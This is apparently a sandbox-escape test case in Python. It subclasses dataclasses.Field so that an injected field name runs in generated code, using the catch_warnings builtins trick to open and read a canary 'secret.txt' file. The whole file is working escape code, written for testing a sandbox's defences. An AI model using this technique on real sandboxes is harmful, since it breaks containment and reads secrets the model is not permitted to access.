# z04_field_subclass [escape]: a subclass of dataclasses.Field with a property for its name puts text into generated code
import dataclasses

TEXT = "x=[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'catch_warnings'][0]()._module.__builtins__['open']('@CANARY@/secret.txt').read()"


class F(dataclasses.Field):
    @property
    def name(self):
        return TEXT

    @name.setter
    def name(self, value):
        pass


try:
    field = F(dataclasses.MISSING, dataclasses.MISSING, True, True, None, True, None, False)
except TypeError:
    field = F(dataclasses.MISSING, dataclasses.MISSING, True, True, None, True, None, False, None)


@dataclasses.dataclass(repr=False, eq=False)
class A:
    x: int = field

    def __getattr__(self, name):
        return name


def solver(a, b):
    return A().__dict__ or "?"
